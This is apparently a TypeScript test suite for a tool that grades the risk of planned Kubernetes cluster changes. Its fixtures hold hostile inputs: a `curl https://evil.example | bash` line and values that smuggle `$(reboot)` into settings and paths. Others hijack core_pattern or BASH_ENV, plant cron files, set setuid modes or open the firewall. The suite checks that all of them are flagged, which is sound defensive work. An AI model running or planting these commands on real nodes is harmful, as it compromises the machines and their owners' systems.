import assert from "node:assert/strict";
import { exitCodeOf } from "../../cli/previewReport";
import { admitScript, initScript, joinScript } from "../../components/kubeadm/scripts";
import { applyScript, type NodeFile, planCluster, type NodePlan, preflightScript } from "../../components/plan";
import { packedMark } from "../../components/plan/applyScript";
import { hostsCluster } from "../plan/clusters";
import { changed, child, clusterUrn, command, findingsOf, type MadeStep, reportOf, saidOf, server } from "./made";

const evil = "curl -s https://evil.example | bash\n";

function planned(version?: string): NodePlan[] {
  return planCluster("eng", {
    underlay: { kind: "hetzner", location: "fsn1" },
    access: { ssh: ["203.0.113.7/32"], api: ["203.0.113.7/32"] },
    controlPlane: { serverType: "ccx13" },
    pools: [{ name: "web", count: 1, serverType: "ccx13", ...(version === undefined ? {} : { labels: { version } }) }],
  }).nodes;
}
const [first, web] = planned() as [NodePlan, NodePlan];

/** As a step of the library wraps its script. */
const wrapped = (script: string): string =>
  `exec 9>/run/zerosteal-x.lock && flock -w 9 9 &&\ntimeout 9 bash -euo pipefail /dev/fd/3 3<<'END_OF_STEP' || {\n${script}END_OF_STEP\n  exit 1;\n}\n`;
const tuned = (files: NodeFile[]): string =>
  wrapped(`bash /dev/stdin <<'END_OF_SETUP'\n${applyScript(files)}END_OF_SETUP\n`);
const withFile = (path: string, content: (old: string) => string): NodeFile[] =>
  first.files.map((file) => (file.path === path ? { ...file, content: content(file.content) } : file));
const tuneOf = (files: NodeFile[] | string): MadeStep =>
  changed(
    command,
    `tune-${first.name}`,
    { create: tuned(first.files) },
    { create: typeof files === "string" ? files : tuned(files) },
  );

describe("children of a cluster that no part of the library makes", () => {
  it("are said, whatever they are", () => {
    const backdoor = reportOf(child("create", command, "backdoor", [undefined, { create: evil }]));
    assert.equal(exitCodeOf(backdoor, "low"), 1);
    assert.match(saidOf(backdoor, "other-create").text, /1 made: `backdoor`/);
    assert.equal(saidOf(backdoor, "other-create").grade, "high");
    const volume = reportOf(child("delete", "hcloud:index/volume:Volume", "data", [{}]));
    assert.equal(saidOf(volume, "other-delete").grade, "high");
    const binding = "kubernetes:rbac.authorization.k8s.io/v1:ClusterRoleBinding";
    assert.equal(reportOf(child("create", binding, "all", [undefined, {}])).grade, "low");
    assert.equal(reportOf(child("create", "command:local:Command", "x", [undefined, { create: evil }])).grade, "high");
  });

  it("are not taken for a part or a node whose name they are like", () => {
    const made = (type: string, name: string): MadeStep => child("create", type, name, [undefined, { create: evil }]);
    for (const name of ["services-evil", "kubeconfig-evil", "init-nobody", "join-nobody", "tune-nobody"]) {
      assert.equal(reportOf(made(command, name)).grade, "high", name);
    }
    assert.equal(reportOf(made("command:local:Command", "doctor-evil")).grade, "high");
    assert.equal(reportOf(made("kubernetes:helm.sh/v3:Release", "own")).grade, "low");
    const opened = child("create", "hcloud:index/firewall:Firewall", "eng", [
      undefined,
      { rules: [{ protocol: "tcp", port: "22", sourceIps: ["0.0.0.0/0"] }] },
    ]);
    assert.equal(saidOf(reportOf(opened), "firewall-open").grade, "high");
  });

  it("leave a cluster without a change without a finding", () => {
    const stays = child("same", command, "backdoor", [{}, {}]);
    assert.deepEqual(findingsOf(reportOf(stays)), []);
    assert.equal(exitCodeOf(reportOf(stays), "low"), 0);
  });

  it("are policies too, and a provider that is pointed elsewhere is a change", () => {
    const policy = "kubernetes:cilium.io/v2:CiliumNetworkPolicy";
    assert.equal(reportOf(child("delete", policy, "shop-default-deny", [{}])).grade, "high");
    const own = child("update", "pulumi:providers:hcloud", "own", [{ endpoint: "a" }, { endpoint: "b" }], "");
    assert.equal(saidOf(reportOf(own), "other-update").grade, "medium");
  });
});

describe("a script that runs as root", () => {
  const script: Record<string, string> = {
    hostkey: wrapped("cat /etc/ssh/ssh_host_ed25519_key.pub\n"),
    tune: tuned(first.files),
    init: wrapped(initScript(first)),
    admit: wrapped(admitScript(web)),
    join: wrapped(joinScript(web)),
    preflight: "NODE_NAME='a'\n" + wrapped("true\n"),
  };

  for (const [kind, before] of Object.entries(script)) {
    it(`is high when a line of ${kind} is none of the plan's, with the other inputs too`, () => {
      for (const key of ["create", "delete", "update"]) {
        const after = before.replace("END_OF_STEP\n", `${evil}END_OF_STEP\n`).replace(/^/, evil);
        const found = saidOf(
          reportOf(changed(command, `${kind}-eng-web-1`, { [key]: before }, { [key]: after })),
          "script-changed",
        );
        assert.deepEqual([found.grade, found.subject], ["high", "eng-web-1"]);
        assert.ok(found.text.includes(`${kind} (${key})`), found.text);
      }
      const other = changed(command, `${kind}-eng-web-1`, {}, { environment: { BASH_ENV: "/tmp/x" }, stdin: "x" });
      assert.match(saidOf(reportOf(other), "script-changed").text, /\(environment, stdin\)/);
    });
  }

  it("is explained by the plan's documents, and by nothing that only looks like one", () => {
    const [, labelled] = planned("2") as [NodePlan, NodePlan];
    const admit = (after: string): MadeStep =>
      changed(command, "admit-eng-web-1", { create: script.admit }, { create: after });
    assert.notEqual(script.admit, wrapped(admitScript(labelled)));
    assert.deepEqual(findingsOf(reportOf(admit(wrapped(admitScript(labelled))))), []);
    for (const [from, to] of [
      ["END_OF_NODE\n", `END_OF_NODE\n${evil}`],
      ['"kind"', `\nEND_OF_STEP\n${evil}"kind"`],
      ["sed ", "bash "],
    ] as const) {
      assert.equal(saidOf(reportOf(admit(script.admit!.replace(from, to))), "script-changed").grade, "high", from);
    }
  });

  it("of a preflight is explained by what it is told of its machine", () => {
    const plan = planCluster("eng", hostsCluster());
    const { underlay } = plan;
    assert.ok(underlay.kind === "hosts");
    const text = preflightScript(underlay, plan.nodes[0]!);
    const other = preflightScript({ ...underlay, mtu: 1400 }, plan.nodes[0]!);
    const named = `preflight-${plan.nodes[0]!.name}`;
    assert.equal(reportOf(changed(command, named, { create: text }, { create: other })).grade, "low");
    const run = text.replace(/^MTU='\d+'$/m, "MTU='a[$(reboot)]'");
    assert.notEqual(run, text);
    assert.equal(reportOf(changed(command, named, { create: text }, { create: run })).grade, "high");
  });

  it("gets a machine's id from a machine that is made anew, and nothing else", () => {
    const step = (stdin: string): MadeStep => ({
      ...changed(command, "init-eng-control-plane-1", { stdin: "1\n" }, { stdin }),
      op: "replace",
    });
    const anew = child("replace", server, "eng-control-plane-1", [{ location: "fsn1" }, { location: "nbg1" }]);
    const ids = (report: ReturnType<typeof reportOf>): string[] => findingsOf(report).map(({ id }) => id);
    assert.deepEqual(ids(reportOf(anew, step("2\n"))), ["control-plane-replaced"]);
    assert.ok(ids(reportOf(anew, step("x/;1e reboot\n"))).includes("script-changed"));
    assert.ok(ids(reportOf(step("2\n"))).includes("script-changed"));
    const join = { ...changed(command, "join-eng-web-1", {}, {}), diffReasons: ["stdin"] };
    assert.equal(reportOf(join).grade, "high");
    const init = changed(command, "init-eng-control-plane-1", { create: script.init }, { create: script.init });
    assert.deepEqual(ids(reportOf(join, init)), []);
  });

  it("comes and goes with its machine alone", () => {
    const stays = child("same", server, "eng-web-1", [{}, {}]);
    const step = (op: string, kind: string): MadeStep =>
      child(op, command, `${kind}-eng-web-1`, [op === "create" ? undefined : {}, op === "delete" ? undefined : {}]);
    assert.equal(saidOf(reportOf(stays, step("create", "join")), "step-made").grade, "high");
    assert.match(saidOf(reportOf(stays, step("delete", "admit")), "step-gone").text, /leaves the cluster/);
    assert.match(saidOf(reportOf(stays, step("replace", "admit")), "step-again").text, /leaves the cluster/);
    assert.equal(saidOf(reportOf(stays, step("replace", "join")), "step-again").grade, "medium");
    const leaves = child("delete", server, "eng-web-1", [{}]);
    assert.deepEqual(
      findingsOf(reportOf(leaves, step("delete", "admit"))).map(({ id }) => id),
      ["node-removed"],
    );
  });
});

describe("a script of the cluster", () => {
  it("is high where the engine runs and on the control plane", () => {
    for (const [type, name] of [
      ["command:local:Command", "doctor-eng"],
      [command, "kubeconfig-eng"],
      [command, "services-eng"],
    ] as const) {
      for (const key of ["create", "delete"]) {
        const found = reportOf(changed(type, name, { [key]: "true" }, { [key]: evil }));
        assert.equal(saidOf(found, "script-changed").grade, "high", name);
      }
      assert.equal(
        saidOf(reportOf(child("create", type, name, [undefined, { create: evil }])), "script-new").grade,
        "high",
      );
    }
    const verifies = { ...changed("command:local:Command", "doctor-eng", {}, {}), diffReasons: ["stdin"] };
    assert.equal(reportOf(verifies).grade, "low");
  });

  it("announces Services, and makes no other object", () => {
    const script = (kind: string): string =>
      wrapped(`kubectl apply -f - <<'END_OF_OBJECTS'\n${JSON.stringify({ items: [{ kind }] })}\nEND_OF_OBJECTS\n`);
    const to = (kind: string): MadeStep =>
      changed(command, "services-eng", { create: script("CiliumLoadBalancerIPPool") }, { create: script(kind) });
    assert.equal(reportOf(to("CiliumL2AnnouncementPolicy")).grade, "medium");
    assert.equal(reportOf(to("ClusterRoleBinding")).grade, "high");
  });

  it("reaches the cluster that it reached, or a change of the provider is high", () => {
    const provider = changed("pulumi:providers:kubernetes", "eng", { kubeconfig: "a" }, { kubeconfig: "b" });
    assert.equal(saidOf(reportOf(provider), "provider-changed").grade, "high");
    const anew = child("replace", command, "kubeconfig-eng", [{ triggers: [1] }, { triggers: [2] }]);
    assert.equal(reportOf(provider, anew).grade, "low");
    const other = changed("pulumi:providers:kubernetes", "eng", { context: "a" }, { context: "b" });
    assert.equal(reportOf(other, anew).grade, "high");
  });
});

describe("the files of a node", () => {
  const graded = (files: NodeFile[] | string): string => reportOf(tuneOf(files)).grade;
  const setup = "/usr/local/sbin/zerosteal-setup";
  const script = tuned(first.files);
  const written = (path: string): string =>
    new RegExp(`^put \\d{4} ${path} [^]*?^END_OF_ZEROSTEAL_FILE\n\n`, "m").exec(script)?.[0] ?? "";

  it("are high where one is written twice, as the first may be run before the second", () => {
    const wait = "/usr/local/sbin/zerosteal-wait-network";
    const bad = `put 0755 ${setup} <<'END_OF_ZEROSTEAL_FILE'\n${evil}END_OF_ZEROSTEAL_FILE\n\n`;
    const [old, oldWait] = [written(setup), written(wait)];
    assert.ok(old.includes(" unpack ") && oldWait.includes(" unpack "));
    assert.equal(graded(script.replace(old, `${bad}${setup}\n\n${old}`)), "high");
    assert.equal(graded(script.replace(old, bad + old)), "high");
    // What ends the step between them leaves the first.
    const broken = oldWait.replace(/\nH4sI.*\n/, "\n!\n");
    assert.equal(
      graded(
        script.replace(oldWait, oldWait.replace(/\nH4sI.*\n/, `\n${evil}`).replace(" unpack", "") + broken + oldWait),
      ),
      "high",
    );
  });

  it("are high where they are written at another place of the step", () => {
    const old = written(setup);
    const [head = "", tail = ""] = script.replace(old, "").split(`\n${setup}\n`);
    assert.notEqual(tail, "");
    assert.equal(graded(`${head}\n${setup}\n${old}${tail}`), "high");
    assert.equal(graded(script.replace(old, "").replace("put() {\n", `put() {\n${old}`)), "high");
    // In another order they are the same.
    assert.equal(graded(script.replace(old, "").replace("put 0644", `${old}put 0644`)), "low");
  });

  it("are high where a plain text stands for a packed one, even if it says what is read back of that", () => {
    const old = written(setup);
    for (const line of ["", "packed: ", packedMark])
      assert.equal(
        graded(script.replace(old, old.replace(" unpack", "").replace("\nH4sI", `\n${line}H4sI`))),
        "high",
        line,
      );
  });

  it("are high where their rights change, also with their text, and where a new one has others than it needs", () => {
    const wide = (path: string, change: string): string =>
      script.replace(
        written(path),
        written(path).replace("put 0644", "put 0666").replace("\nEND_OF", `${change}\nEND_OF`),
      );
    for (const change of ["", "\n# 1"])
      assert.equal(graded(wide("/etc/containerd/config.toml", change)), "high", change);
    const mirror = (mode: string): NodeFile[] => [
      ...first.files,
      { path: "/etc/containerd/certs.d/x/hosts.toml", mode, content: "#\n" },
    ];
    assert.deepEqual([graded(mirror("0644")), graded(mirror("0666"))], ["medium", "high"]);
  });

  it("are high where they are run, or where nobody planned them", () => {
    assert.equal(graded(withFile("/usr/local/sbin/zerosteal-setup", (old) => old + evil)), "high");
    // Packed, a file of any kind is one that nobody can judge.
    for (const path of ["modules-load.d/90-zerosteal.conf", "kubernetes/kubelet.conf.d/50-zerosteal.conf"]) {
      const plain = new RegExp(
        `^(put 0644 /etc/${path})( <<'END_OF_ZEROSTEAL_FILE'\n)[^]*?^(?=END_OF_ZEROSTEAL_FILE$)`,
        "m",
      );
      const packed = tuned(first.files).replace(plain, "$1 unpack$2H4sI\n");
      assert.notEqual(packed, tuned(first.files));
      assert.equal(graded(packed), "high", path);
    }
    assert.equal(
      graded(withFile("/etc/systemd/system/kubelet.service", (old) => `${old}ExecStartPre=/tmp/x\n`)),
      "high",
    );
    assert.equal(graded(withFile("/etc/zerosteal/node.env", (old) => `${old}PATH=/tmp\n`)), "high");
    assert.equal(
      graded(withFile("/etc/sysctl.d/90-zerosteal.conf", (old) => `${old}kernel.core_pattern=|/tmp/x\n`)),
      "high",
    );
    assert.equal(
      graded(withFile("/etc/sysctl.d/90-zerosteal.conf", (old) => `${old}kernel.core_pattern = |/tmp/x\n`)),
      "high",
    );
    assert.equal(graded(withFile("/etc/modules-load.d/90-zerosteal.conf", (old) => `${old}--config=/tmp/x\n`)), "high");
    assert.equal(graded(withFile("/etc/zerosteal/files", (old) => `${old}/etc/passwd\n`)), "high");
    assert.equal(
      graded(withFile("/etc/zerosteal/artifacts.tsv", (old) => old.replace(/\b[0-9a-f]{64}\b/, "0".repeat(64)))),
      "high",
    );
    assert.equal(graded(withFile("/etc/zerosteal/artifacts.tsv", (old) => old.replace("/usr/local", "/tmp"))), "high");
    for (const path of ["/etc/cron.d/x", "/etc/containerd/../cron.d/x", "/etc/containerd/$(reboot)"]) {
      assert.equal(graded([...first.files, { path, mode: "0644", content: "x\n" }]), "high", path);
    }
    assert.equal(graded(first.files.map((file) => ({ ...file, mode: "4755" }))), "high");
    assert.equal(graded(withFile("/etc/containerd/config.toml", (old) => `${old}END_OF_STEP\n${evil}`)), "high");
  });

  it("are medium where they are settings", () => {
    assert.equal(graded(withFile("/etc/containerd/config.toml", (old) => `${old}# more\n`)), "medium");
    assert.equal(
      graded(withFile("/etc/zerosteal/node.env", (old) => old.replace("CPU_ISOLATION=none", "CPU_ISOLATION=static"))),
      "medium",
    );
    assert.equal(
      graded(
        withFile("/etc/zerosteal/artifacts.tsv", (old) => old.replace(/https:\/\/[^/]+/, "https://mirror.example")),
      ),
      "medium",
    );
    const mirror = { path: "/etc/containerd/certs.d/quay.io/hosts.toml", mode: "0644", content: "x\n" };
    const files = withFile("/etc/zerosteal/files", (old) => `${old}${mirror.path}\n`);
    assert.equal(graded([...files, mirror]), "medium");
  });

  it("are looked at on a machine that is made again too", () => {
    const anew = child("create", server, first.name, [undefined, {}]);
    const step = { ...tuneOf(tuned(first.files).replace("END_OF_SETUP\n", `END_OF_SETUP\n${evil}`)), op: "replace" };
    assert.ok(findingsOf(reportOf(anew, step)).some(({ id }) => id === "script-changed"));
    assert.equal(step.newState?.parent, clusterUrn);
  });
});
